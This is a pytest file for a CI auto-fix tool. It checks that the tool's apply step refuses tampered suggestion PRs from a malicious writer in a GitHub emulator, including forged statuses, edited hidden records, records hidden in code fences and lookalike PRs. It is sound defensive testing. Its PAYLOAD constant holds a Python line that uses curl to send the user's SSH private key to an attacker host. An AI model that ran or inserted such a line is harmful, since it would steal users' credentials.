"""Issue 10, class 5: apply pushes only a commit that ci-autofix made.

The suggestion PR's body (and its hidden record), its label and its branch name are text that
anyone with write access can edit. Apply must believe only what GitHub authenticates: the PR's
author, a commit status on the fix commit created by the identity propose acts as, the failing
run as the API reports it, and the real diff, re-checked by the patch policy.

Everything runs through the entrypoint as the runner starts it (workspace, HOME, RUNNER_TEMP and
the file-command files owned by uid 1001), against the GitHub emulator: propose delivers a real
suggestion, a writer (`mallory`, with her own token) attacks it, a reviewer dispatches apply.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import requests

from ci_autofix.cli.demo import job_log
from ci_autofix.state.marker import Suggestion, parse
from tests.testing.emulator import BOT, GitHubEmulator, JobSpec, StepSpec
from tests.testing.format_scenario import BROKEN, CLEAN, DISPATCHABLE_CI, REPO
from tests.testing.git import ALICE, Author, clone, commit, git, init_repo
from tests.testing.runner_sim import RunnerSim, RunResult
from tests.testing.sandbox_tools import sandbox_path

CI = ".github/workflows/ci.yml"
DEPLOY = ".github/workflows/deploy.yml"
APPLY = ".github/workflows/ci-autofix-apply.yml"
CONTEXT = "ci-autofix/provenance"
MALLORY = Author("Mallory", "mallory@example.com")
MALLORY_TOKEN = "ghp_malloryWriterToken0123456789abcdefABCD"
TESTS = {
    "tests/test_widgets.py": "from widgets import area\n\n\ndef test_area():\n    assert area(2, 3) == 6\n"
}
DEPLOY_YML = "name: Deploy\non:\n  workflow_dispatch:\njobs: {}\n"
PAYLOAD = 'import os\n\nos.system("curl -d @$HOME/.ssh/id_rsa https://attacker.invalid")\n'


@dataclass
class Loop:
    """A failed run on `feature`, and (after `propose()`) ci-autofix's suggestion for it."""

    emu: GitHubEmulator
    propose_sim: RunnerSim
    apply_sim: RunnerSim
    tmp: Path
    source: Path
    workspace: Path
    head_sha: str
    run_id: int
    number: int = 0
    record: Suggestion | None = None

    # ---- the two halves, through the entrypoint -----------------------------------------------------
    def propose(self) -> Suggestion:
        proposed = self.propose_sim.run(
            event_name="workflow_run",
            event=self.emu.workflow_run_event(self.emu.runs[self.run_id]),
            workspace=self.workspace,
            extra_env=_tools(),
        )
        assert proposed.outputs.get("status") == "proposed", proposed.log
        self.number = int(proposed.outputs["pull-request"])
        self.record = parse(self.emu.pull(REPO, self.number).body)
        assert self.record is not None
        return self.record

    def apply(self, number: int | None = None, **inputs: str) -> RunResult:
        empty = self.tmp / "apply-workspace"  # the apply job has no checkout
        empty.mkdir(exist_ok=True)
        pr = str(number or self.number)
        return self.apply_sim.run(
            event_name="workflow_dispatch",
            event=self.emu.workflow_dispatch_event(REPO, APPLY, "main", {"pull-request": pr}),
            workspace=empty,
            inputs={"pull-request": pr, **inputs},
            extra_env=_tools(),
        )

    # ---- what a writer can do with her own token ------------------------------------------------------
    def as_mallory(self, method: str, path: str, body: Any) -> Any:
        response = requests.request(
            method,
            f"{self.emu.api_url}/repos/{REPO}{path}",
            json=body,
            headers={"Authorization": f"token {MALLORY_TOKEN}", "Accept": "application/vnd.github+json"},
            timeout=10,
        )
        assert response.status_code < 300, response.text
        return response.json()

    def mallory_commit(self, parent: str, files: dict[str, str], delete: list[str], branch: str) -> str:
        """A commit of hers on `parent`, force-pushed to `branch`."""
        work = self.tmp / f"mallory-{branch.replace('/', '-')}"
        clone(self.emu.bare_path(REPO), work, detach=parent)
        for name in delete:
            (work / name).unlink()
        sha = commit(work, files, "Fix the format", MALLORY)
        git(work, "push", "-q", "--force", str(self.emu.bare_path(REPO)), f"{sha}:refs/heads/{branch}")
        return sha

    def edit_body(self, number: int, old: Suggestion, new: Suggestion, *, before: str = "") -> None:
        body = self.emu.pull(REPO, number).body or ""
        assert old.render() in body
        edited = body.replace(old.render(), new.render())
        self.as_mallory("PATCH", f"/pulls/{number}", {"body": before + edited})

    # ---- inspection -------------------------------------------------------------------------------------
    def feature(self) -> str | None:
        return self.emu.branch_sha(REPO, "feature")

    def dispatched(self) -> list[tuple[str, str]]:
        return [(d.workflow, d.ref) for d in self.emu.dispatches]


def _tools() -> dict[str, str]:
    return {"PATH": sandbox_path()}


@pytest.fixture
def loop(github_emulator: GitHubEmulator, tmp_path: Path) -> Loop:
    emu = github_emulator
    source = tmp_path / "source"
    init_repo(source, {**CLEAN, CI: DISPATCHABLE_CI, DEPLOY: DEPLOY_YML, **TESTS})
    git(source, "checkout", "-q", "-b", "feature")
    head_sha = commit(source, BROKEN, "Add perimeter")
    log = job_log(source, ["ruff format --check ."])
    emu.create_repo(REPO, source=source)
    emu.add_workflow(REPO, CI, "CI", dispatch=True)
    emu.add_workflow(REPO, DEPLOY, "Deploy", dispatch=True)
    emu.add_user("alice", permission="write", email=ALICE[1])
    emu.add_user("mallory", permission="write", email=MALLORY[1])
    emu.add_token(MALLORY_TOKEN, "mallory")
    run = emu.add_workflow_run(
        REPO,
        CI,
        "feature",
        head_sha,
        "failure",
        actor="alice",
        jobs=[
            JobSpec(
                "lint",
                "failure",
                [StepSpec("Set up job", "success"), StepSpec("Run ruff format --check .", "failure")],
                log=log,
            )
        ],
    )
    workspace = tmp_path / "workspace"  # what actions/checkout leaves: the failing commit, detached
    clone(source, workspace, detach=head_sha)
    # Both run as on GitHub's runners: the workspace and the runner's files owned by uid 1001.
    sims = (
        RunnerSim(tmp_path / "propose", runner_uid=1001).for_emulator(emu, REPO),
        RunnerSim(tmp_path / "apply", runner_uid=1001).for_emulator(emu, REPO),
    )
    return Loop(emu, *sims, tmp_path, source, workspace, head_sha, run.id)


def assert_refused(loop: Loop, result: RunResult, number: int, dispatched: list[tuple[str, str]]) -> str:
    """Refused: the failing branch is untouched, no workflow was started; the comment says why."""
    assert (result.outputs.get("status"), result.outputs.get("reason")) == ("halted", "refused"), result.log
    assert loop.feature() == loop.head_sha
    assert loop.dispatched() == dispatched
    comment = loop.emu.comments(REPO, number)[-1]
    assert "Not applied" in comment
    return comment


# ---- (a) a writer amends the suggestion and edits the record ------------------------------------------
def test_an_amended_suggestion_with_an_edited_record_is_refused(loop: Loop) -> None:
    record = loop.propose()
    dispatched = loop.dispatched()
    fix_branch = record.fix_branch
    amended = loop.mallory_commit(
        record.head_sha,
        {
            "widgets.py": git(loop.emu.bare_path(REPO), "show", f"{record.fix_sha}:widgets.py")
            + "\n"
            + PAYLOAD
        },
        ["tests/test_widgets.py"],
        fix_branch,
    )
    # her own "provenance" status on her commit: GitHub records her as its creator
    loop.as_mallory(
        "POST",
        f"/statuses/{amended}",
        {"state": "success", "context": CONTEXT, "description": f"fix of {record.head_sha}"},
    )
    loop.edit_body(loop.number, record, record.model_copy(update={"fix_sha": amended, "workflow": DEPLOY}))

    result = loop.apply()

    comment = assert_refused(loop, result, loop.number, dispatched)
    assert CONTEXT in comment
    assert loop.emu.branch_sha(REPO, fix_branch) == amended  # nothing of hers was pushed anywhere else
    assert loop.emu.pull(REPO, loop.number).state == "open"


# ---- (b) a writer's own PR that looks like a suggestion -----------------------------------------------
def test_a_writers_own_pull_request_with_a_hand_written_record_is_refused(loop: Loop) -> None:
    branch = "ci-autofix/feature/123"
    fixed = "def area(width, height):\n    return width * height\n\n\ndef perimeter(w, h):\n    return 2 * (w + h)\n"
    sha = loop.mallory_commit(
        loop.head_sha, {"widgets.py": fixed + PAYLOAD}, ["tests/test_widgets.py"], branch
    )
    record = Suggestion(
        run_id=loop.run_id,
        workflow=DEPLOY,
        failing_branch="feature",
        head_sha=loop.head_sha,
        fix_sha=sha,
        fix_branch=branch,
        verification="verified",
    )
    pull = loop.as_mallory(
        "POST",
        "/pulls",
        {
            "base": "feature",
            "head": branch,
            "title": "ci-autofix: fix",
            "body": f"A fix.\n\n{record.render()}\n",
        },
    )
    loop.as_mallory("POST", f"/issues/{pull['number']}/labels", {"labels": ["ci-autofix"]})
    loop.as_mallory(
        "POST",
        f"/statuses/{sha}",
        {"state": "success", "context": CONTEXT, "description": f"fix of {loop.head_sha}"},
    )
    assert loop.emu.pull(REPO, pull["number"]).user == "mallory"

    result = loop.apply(pull["number"])

    comment = assert_refused(loop, result, pull["number"], [])
    assert "mallory" in comment


# ---- (c) the workflow started for CI is the failing run's, never the record's ----------------------------
def test_the_workflow_dispatched_is_the_failing_runs_not_the_records(loop: Loop) -> None:
    record = loop.propose()
    before = loop.dispatched()
    loop.edit_body(loop.number, record, record.model_copy(update={"workflow": DEPLOY}))

    result = loop.apply()

    assert result.outputs.get("status") == "applied", result.log
    assert loop.feature() == record.fix_sha
    assert loop.dispatched() == [*before, (CI, "feature")]


# ---- (d) a record inside a code fence is text, not the record -------------------------------------------
def test_a_fake_record_in_a_code_fence_before_the_real_one_is_ignored(loop: Loop) -> None:
    record = loop.propose()
    main_sha = loop.emu.branch_sha(REPO, "main")
    assert main_sha is not None
    fake = record.model_copy(update={"head_sha": main_sha, "workflow": DEPLOY})
    fenced = f"```text\n{fake.render()}\n```\n\n~~~\n{fake.render()}\n~~~\n\n"
    loop.edit_body(loop.number, record, record, before=fenced)
    assert parse(loop.emu.pull(REPO, loop.number).body) == record

    result = loop.apply()

    assert result.outputs.get("status") == "applied", result.log
    assert loop.feature() == record.fix_sha


def test_only_a_record_outside_code_fences_counts() -> None:
    real = Suggestion(
        run_id=7,
        failing_branch="feature",
        head_sha="a" * 40,
        fix_sha="b" * 40,
        fix_branch="ci-autofix/feature/7",
    )
    fake = real.model_copy(update={"fix_sha": "c" * 40})
    assert parse(f"Log:\n```\n{fake.render()}\n```\n\n{real.render()}\n") == real
    assert parse(f"Log:\n````text\n```\n{fake.render()}\n```\n````\n{real.render()}\n") == real
    assert parse(f"~~~~\n{fake.render()}\n~~~~\n") is None
    assert parse(f"Text\n\n```\n{fake.render()}\n") is None  # an unclosed fence runs to the end
    assert parse(f"`{fake.render()}`\n\n{real.render()}\n") == real  # a code span is text too


# ---- (e) the genuine flow still applies, and propose vouches for its commit --------------------------------
def test_a_genuine_suggestion_carries_a_status_by_the_bot_and_applies(loop: Loop) -> None:
    record = loop.propose()
    [status] = [s for s in loop.emu.statuses(REPO, record.fix_sha) if s.context == CONTEXT]
    assert (status.creator, status.state) == (BOT, "success")
    assert record.head_sha in (status.description or "")
    assert loop.emu.pull(REPO, loop.number).user == BOT

    result = loop.apply()

    assert result.outputs.get("status") == "applied", result.log
    assert loop.feature() == record.fix_sha
    assert git(loop.emu.bare_path(REPO), "rev-parse", f"{record.fix_sha}^") == loop.head_sha


# ---- (f) the policy is re-run on the real diff at apply time ----------------------------------------------
def test_a_policy_blocked_diff_with_a_valid_status_is_refused_at_apply(loop: Loop) -> None:
    record = loop.propose()  # policy-clean when proposed
    dispatched = loop.dispatched()

    result = loop.apply(**{"protected-paths": "widgets.py"})  # the policy got stricter since

    comment = assert_refused(loop, result, loop.number, dispatched)
    assert "protected-path" in comment
    assert loop.emu.branch_sha(REPO, record.fix_branch) == record.fix_sha


def test_without_statuses_write_propose_fails_and_leaves_nothing_half_made(loop: Loop) -> None:
    """No status, no suggestion: a PR apply would refuse is not opened at all."""
    loop.emu.deny("POST", r"/statuses/", "statuses=write")
    proposed = loop.propose_sim.run(
        event_name="workflow_run",
        event=loop.emu.workflow_run_event(loop.emu.runs[loop.run_id]),
        workspace=loop.workspace,
        extra_env=_tools(),
    )
    assert proposed.exit_code != 0
    assert "statuses: write" in proposed.log
    assert loop.emu.pulls(REPO) == []
    assert list(loop.emu.refs(REPO, "refs/heads/ci-autofix/")) == []
